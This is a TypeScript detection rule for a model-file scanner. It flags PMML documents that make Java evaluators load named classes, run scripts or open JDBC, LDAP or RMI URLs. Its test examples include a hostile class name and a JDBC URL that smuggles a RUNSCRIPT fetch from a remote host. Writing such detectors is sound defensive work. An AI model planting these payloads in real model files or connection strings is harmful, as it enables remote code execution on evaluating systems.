import type { ModelRule } from '../../rule.ts'
import type { PmmlSight } from '../../subjects/foreign-code-subject.ts'
import { activeText } from './foreign-code.ts'
import { pmml } from './pmml-code.ts'

/** Functions that evaluators bring along. */
const OWN_FUNCTION = /^(?:org\.jpmml\.|net\.sf\.|x-)/

export const pmmlReference: ModelRule = {
  id: 'pmml/foreign-code',
  severity: 'medium',
  verdict: 'suspicious',
  title: 'The document asks its evaluator for code or data from elsewhere',
  source: 'https://github.com/jpmml/jpmml-evaluator',
  taxonomy: ['CWE-470', 'CWE-829'],
  why: 'Evaluators of Java take a function with dots in its name for a class and load it. Scripts and tables of databases are opened by some of them.',
  remedy: 'Look at what is named before the document is evaluated.',
  examples: {
    fires: [
      pmml('<Apply function="com.example.Evil"><FieldRef field="x"/></Apply>'),
      pmml('<script>result = a + b</script>'),
      pmml(
        '<TableLocator><Extension name="url" value="jdbc:h2:mem:x;INIT=RUNSCRIPT FROM &apos;http://h/x&apos;"/></TableLocator>',
      ),
    ],
    silent: [
      pmml('<Apply function="+"><FieldRef field="x"/><Constant>1.5</Constant></Apply>'),
      pmml('<Apply function="org.jpmml.evaluator.functions.EchoFunction"/>'),
    ],
  },
  check: (subject) =>
    subject.kind === 'pmml'
      ? subject.sights.filter(isForeign).map(({ kind, name, text, offset }) => ({
          key: `${kind}:${name}`,
          message: `${kind} ${name}`,
          offset,
          ...(text.trim() === '' ? {} : { call: text.trim().slice(0, 200) }),
        }))
      : [],
}

function isForeign({ kind, name, text }: PmmlSight): boolean {
  if (kind === 'function')
    return /^[A-Za-z_$][\w$]*(?:\.[A-Za-z_$][\w$]*)+$/.test(name) && !OWN_FUNCTION.test(name)
  if (activeText(text) !== undefined) return false
  return kind === 'script'
    ? text.trim() !== ''
    : kind === 'table' && /\b(?:jdbc|https?|ftp|file|ldap|rmi):/i.test(text)
}
